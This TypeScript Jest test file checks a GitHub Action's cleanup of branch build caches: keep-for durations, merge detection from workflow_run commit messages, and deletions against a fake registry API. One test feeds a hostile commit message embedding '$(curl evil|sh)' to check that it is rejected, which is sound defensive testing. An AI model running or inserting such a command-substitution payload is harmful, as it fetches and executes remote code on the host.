// Cleanup must not race the merge: keep-for (a merged pull request's caches
// stay a while, a deleted branch's too) and the alternative without a clock,
// cleanup on the default branch's completed build (workflow_run). The pure
// decisions (core/cleanup.ts) with a fixed clock, then runCleanup against a
// fake Packages API (__tests__/fake-github.ts).
import { afterEach, describe, expect, test } from '@jest/globals';
import { join } from 'node:path';
import { cleanupBranch } from '../src/core/cleanup.js';
import { parseKeepFor, whyKept } from '../src/core/keep-for.js';
import { InputError } from '../src/core/errors.js';
import type { EventContext } from '../src/core/github-event.js';
import { runCleanup } from '../src/shell/cleanup.js';
import type { CleanupHost } from '../src/shell/deleting.js';
import { acmeVersions, closeFakeGitHubs, deletePayload, fakeGitHub, TOKEN, workspace } from './fake-github.js';

afterEach(closeFakeGitHubs);

const NOW = new Date('2025-06-01T12:00:00Z');
const minutesAgo = (m: number) => new Date(NOW.getTime() - m * 60_000).toISOString();
const repository = { default_branch: 'main', full_name: 'acme/app', owner: { login: 'acme' } };

function prPayload(merged: boolean, mergedAt?: string | null) {
  return {
    action: 'closed',
    pull_request: {
      merged,
      merged_at: mergedAt ?? null,
      head: { ref: 'feature/x', repo: { full_name: 'acme/app' } },
      base: { ref: 'main', repo: { full_name: 'acme/app' } },
    },
    repository,
  };
}

function runPayload(message: string, over: Record<string, unknown> = {}) {
  return {
    action: 'completed',
    workflow_run: { event: 'push', head_branch: 'main', conclusion: 'success', head_commit: { message }, ...over },
    repository,
  };
}

const ev = (eventName: string, payload: Record<string, unknown>): EventContext => ({
  eventName,
  ref: 'refs/heads/main',
  payload,
});

describe('parseKeepFor', () => {
  test.each([
    ['', 7 * 86_400_000, '7d'],
    ['7d', 7 * 86_400_000, '7d'],
    ['30m', 30 * 60_000, '30m'],
    ['12h', 12 * 3_600_000, '12h'],
    [' 2w ', 14 * 86_400_000, '2w'],
    ['0', 0, '0'],
    ['0d', 0, '0'],
  ])('%j is %d ms', (raw, ms, text) => {
    expect(parseKeepFor(raw)).toEqual({ ms, text });
  });

  test.each(['7', '7 d', '1.5h', '-1d', '7days', 'd', '1y', '7D', '1234567d', 'abc'])(
    '%j: one error naming keep-for',
    (raw) => {
      let caught: unknown;
      try {
        parseKeepFor(raw);
      } catch (e) {
        caught = e;
      }
      expect(caught).toBeInstanceOf(InputError);
      expect((caught as Error).message).toMatch(/^keep-for: ".*" is not a duration: .*30m, 12h, 7d, 2w/);
      expect((caught as Error).message).not.toContain('\n');
    },
  );
});

describe('whyKept (a fixed clock)', () => {
  const LATER = 'a later sweep or cleanup deletes them';
  test.each<[string, EventContext, boolean, string, string | undefined]>([
    [
      'merged 3 min ago',
      ev('pull_request', prPayload(true, minutesAgo(3))),
      false,
      '7d',
      `merged 3 min ago, within keep-for 7d: ${LATER}`,
    ],
    ['merged 3 min ago, keep-for 0', ev('pull_request', prPayload(true, minutesAgo(3))), false, '0', undefined],
    ['merged 8 days ago', ev('pull_request', prPayload(true, minutesAgo(8 * 1440))), false, '7d', undefined],
    [
      'merged 5 h ago, keep-for 12h',
      ev('pull_request_target', prPayload(true, minutesAgo(300))),
      false,
      '12h',
      `merged 5 h ago, within keep-for 12h: ${LATER}`,
    ],
    ['merged 31 min ago, keep-for 30m', ev('pull_request', prPayload(true, minutesAgo(31))), false, '30m', undefined],
    [
      'merged 3 days ago, keep-for 2w',
      ev('pull_request', prPayload(true, minutesAgo(3 * 1440 + 5))),
      false,
      '2w',
      `merged 3 days ago, within keep-for 2w: ${LATER}`,
    ],
    [
      'merged by another clock, in the future',
      ev('pull_request', prPayload(true, minutesAgo(-2))),
      false,
      '7d',
      `merged less than a minute ago, within keep-for 7d: ${LATER}`,
    ],
    [
      'merged, no merged_at',
      ev('pull_request', prPayload(true, null)),
      false,
      '7d',
      `merged at a time the event does not give, within keep-for 7d: ${LATER}`,
    ],
    ['closed unmerged: nothing will import it', ev('pull_request', prPayload(false)), false, '7d', undefined],
    ['named by the branch input', ev('pull_request', prPayload(true, minutesAgo(3))), true, '7d', undefined],
    [
      // It does not say whether the branch was merged: deleted at once (nothing would delete it later).
      'a delete event',
      ev('delete', deletePayload),
      false,
      '7d',
      undefined,
    ],
    ['a delete event, keep-for 0', ev('delete', deletePayload), false, '0', undefined],
    ['a completed workflow run: the import is over', ev('workflow_run', runPayload('x')), false, '7d', undefined],
  ])('%s', (_name, event, byInput, keepFor, expected) => {
    expect(whyKept(event, byInput, parseKeepFor(keepFor), NOW)).toBe(expected);
  });
});

describe('cleanup on the default branch’s completed build (workflow_run)', () => {
  test.each<[string, Record<string, unknown>, string | undefined, string]>([
    [
      "GitHub's merge commit",
      runPayload('Merge pull request #12 from acme/feature/x\n\nLogin form'),
      'feature/x',
      'workflow_run of a push run on main: merged feature/x (#12)',
    ],
    [
      "the owner's case differs",
      runPayload('Merge pull request #12 from ACME/feature/x'),
      'feature/x',
      'merged feature/x (#12)',
    ],
    [
      "GitLab's or git's",
      runPayload("Merge branch 'feature/x' into 'main'"),
      'feature/x',
      'merged feature/x (a merge)',
    ],
    [
      "a fork's pull request",
      runPayload('Merge pull request #12 from mallory/feature/x'),
      undefined,
      "merged #12 from mallory's fork, nothing to clean up",
    ],
    ['a squash merge', runPayload('Login form (#12)'), undefined, 'a squash merge (#12) names no branch'],
    ['not a merge', runPayload('Fix the build'), undefined, 'not a merge commit, nothing to clean up'],
    [
      'a pull request run',
      runPayload('Merge pull request #12 from acme/feature/x', { event: 'pull_request' }),
      undefined,
      'workflow_run of a pull_request run on main: only a push merges a branch',
    ],
    [
      'a hostile message',
      runPayload("Merge branch '$(curl evil|sh)' into 'main'"),
      undefined,
      'not a merge commit, nothing to clean up',
    ],
  ])('%s', (_name, payload, branch, reason) => {
    const found = cleanupBranch(ev('workflow_run', payload));
    expect(found.branch).toBe(branch);
    expect(found.reason).toContain(reason);
  });

  test('a protected branch merged (develop into main) is ordinary: nothing to do, not an error', () => {
    const found = cleanupBranch(ev('workflow_run', runPayload('Merge pull request #3 from acme/develop')), undefined, [
      'develop',
    ]);
    expect(found.branch).toBeUndefined();
    expect(found.reason).toContain('keeping the caches of develop: it matches "develop" in protected-branches');
  });

  test('a run that did not complete: one error that says which types to use', () => {
    expect(() => cleanupBranch(ev('workflow_run', { ...runPayload('x'), action: 'requested' }))).toThrow(
      /^cleanup: runs on completed workflow runs, and this one is "requested": use `types: \[completed\]`$/,
    );
  });
});

describe('runCleanup: keep-for and workflow_run against a fake Packages API', () => {
  async function cleanup(inputs: Record<string, string>, eventName: string, payload: unknown) {
    const gh = await fakeGitHub({ 'orgs/acme/app': acmeVersions() });
    const { dir, eventPath } = workspace(payload);
    const log: string[] = [];
    const failed: string[] = [];
    const outputs: Record<string, string> = {};
    const summaries: string[] = [];
    const io: CleanupHost = {
      info: (m) => log.push(m),
      warn: (m) => log.push(`warning: ${m}`),
      setOutput: (n, v) => (outputs[n] = v),
      fail: (m) => failed.push(m),
      setSecret: () => {},
      summary: async (md) => void summaries.push(md),
    };
    const all: Record<string, string> = {
      image: 'ghcr.io/acme/app',
      'github-token': TOKEN,
      context: dir,
      'cache-stages': 'dependencies, build',
      ...inputs,
    };
    const env = {
      GITHUB_EVENT_NAME: eventName,
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_REF: 'refs/heads/main',
      GITHUB_API_URL: gh.url,
      GITHUB_STEP_SUMMARY: join(dir, 'summary'),
    };
    await runCleanup(
      (n) => all[n] ?? '',
      io,
      env,
      () => NOW,
    );
    const deletes = gh.requests.filter((r) => r.method === 'DELETE').map((r) => r.url.split('/').pop());
    return { log, failed, outputs, summaries, deletes, requests: gh.requests };
  }

  test('a pull request merged 3 min ago: its caches are kept, the registry not even asked', async () => {
    const r = await cleanup({}, 'pull_request', prPayload(true, minutesAgo(3)));
    expect(r.failed).toEqual([]);
    expect(r.requests).toEqual([]);
    expect(r.outputs['deleted-refs']).toBe('');
    const why = 'merged 3 min ago, within keep-for 7d: a later sweep or cleanup deletes them';
    expect(r.log).toContain(`kept: ghcr.io/acme/app:cache.build.feature_x (${why})`);
    expect(r.summaries[0]).toContain(`🔒 kept: ${why}`);
    // The current tags and 0.1's (legacy-tag.ts).
    expect(r.summaries[0]).toContain('**0 deleted, 0 not found, 4 kept, 0 failed.**');
  });

  test('a pull request merged 8 days ago, or closed unmerged: deleted at once', async () => {
    for (const payload of [prPayload(true, minutesAgo(8 * 1440)), prPayload(false)]) {
      const r = await cleanup({}, 'pull_request', payload);
      expect([r.failed, r.deletes]).toEqual([[], ['21', '22']]);
    }
  });

  test('a delete event: deleted at once, whatever keep-for says (it does not say whether it was merged)', async () => {
    const r = await cleanup({}, 'delete', deletePayload);
    expect([r.failed, r.deletes]).toEqual([[], ['21', '22']]);
    const now = await cleanup({ 'keep-for': '0' }, 'delete', deletePayload);
    expect([now.failed, now.deletes]).toEqual([[], ['21', '22']]);
  });

  test('workflow_run of the merge: deleted at once, keep-for or not', async () => {
    const r = await cleanup({}, 'workflow_run', runPayload('Merge pull request #12 from acme/feature/x'));
    expect([r.failed, r.deletes]).toEqual([[], ['21', '22']]);
    expect(r.outputs['deleted-refs']).toBe(
      'ghcr.io/acme/app:cache.dependencies.feature_x\nghcr.io/acme/app:cache.build.feature_x',
    );
    const squash = await cleanup({}, 'workflow_run', runPayload('Login form (#12)'));
    expect([squash.failed, squash.deletes, squash.outputs['deleted-refs']]).toEqual([[], [], '']);
  });

  test('a bad keep-for: one error naming it, nothing asked', async () => {
    const r = await cleanup({ 'keep-for': '7 days' }, 'delete', deletePayload);
    expect(r.failed).toEqual([
      'keep-for: "7 days" is not a duration: a whole number and m, h, d or w (30m, 12h, 7d, 2w), or 0 for at once',
    ]);
    expect(r.requests).toEqual([]);
  });
});

// The edges, written as plain tests (Stryker's per-test coverage did not map the test.each cases above).
describe('keep-for at its edges', () => {
  const merged = (minutes: number) => ev('pull_request', prPayload(true, minutesAgo(minutes)));
  test('merged exactly keep-for ago: deleted; a minute less: kept', () => {
    expect(whyKept(merged(7 * 1440), false, parseKeepFor('7d'), NOW)).toBeUndefined();
    expect(whyKept(merged(7 * 1440 - 1), false, parseKeepFor('7d'), NOW)).toMatch(/^merged 6 days ago, within/);
  });

  test('how long ago, at each unit’s boundary', () => {
    const said = (minutes: number) => whyKept(merged(minutes), false, parseKeepFor('2w'), NOW)?.split(',')[0];
    expect([said(1), said(119), said(120), said(2 * 1440 - 1), said(2 * 1440)]).toEqual([
      'merged 1 min ago',
      'merged 119 min ago',
      'merged 2 h ago',
      'merged 47 h ago',
      'merged 2 days ago',
    ]);
  });

  test('zero in any spelling is "0"; a zero with more after it is no duration; a long value is cut in the error', () => {
    expect([parseKeepFor('00d'), parseKeepFor('000')]).toEqual([
      { ms: 0, text: '0' },
      { ms: 0, text: '0' },
    ]);
    expect(() => parseKeepFor('0d1')).toThrow(InputError);
    const long = `${'9'.repeat(50)}x`;
    expect(() => parseKeepFor(long)).toThrow(`keep-for: "${'9'.repeat(40)}" is not a duration`);
  });

  test('a delete event never keeps, whatever its payload says of a pull request', () => {
    const odd = ev('delete', { ...deletePayload, pull_request: { merged: true, merged_at: minutesAgo(1) } });
    expect(whyKept(odd, false, parseKeepFor('7d'), NOW)).toBeUndefined();
  });
});
